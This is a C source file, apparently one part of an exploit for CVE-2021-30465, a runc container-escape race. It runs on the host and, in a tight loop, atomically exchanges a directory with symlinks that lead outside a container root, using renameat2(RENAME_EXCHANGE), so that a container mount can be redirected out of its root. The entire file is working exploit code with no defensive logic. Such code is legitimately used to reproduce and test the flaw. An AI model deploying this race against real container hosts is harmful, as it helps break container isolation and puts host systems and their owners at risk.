/*
 * swap: the host side of the CVE-2021-30465 race. In DIR, exchange NAME
 * (a directory) with each LINK (symlinks that lead out of a container
 * root) in turn, atomically with renameat2(RENAME_EXCHANGE), as fast as
 * possible, for SECONDS. Every exchange is undone before the next one, so
 * NAME is a directory half of the time. Runs on the host, not inside.
 *
 * Usage: swap SECONDS DIR NAME LINK...
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int exchange(int dir, const char *a, const char *b)
{
    return (int)syscall(SYS_renameat2, dir, a, dir, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
    if (argc < 5) {
        fprintf(stderr, "usage: swap SECONDS DIR NAME LINK...\n");
        return 2;
    }
    time_t end = time(NULL) + atoi(argv[1]);
    int dir = open(argv[2], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0) {
        perror(argv[2]);
        return 1;
    }
    unsigned long swaps = 0;
    while (time(NULL) < end) {
        for (int i = 4; i < argc; i++) {
            if (exchange(dir, argv[3], argv[i]) < 0) {
                perror("renameat2");
                return 1;
            }
            exchange(dir, argv[3], argv[i]);
            swaps += 2;
        }
    }
    printf("%lu\n", swaps);
    return 0;
}
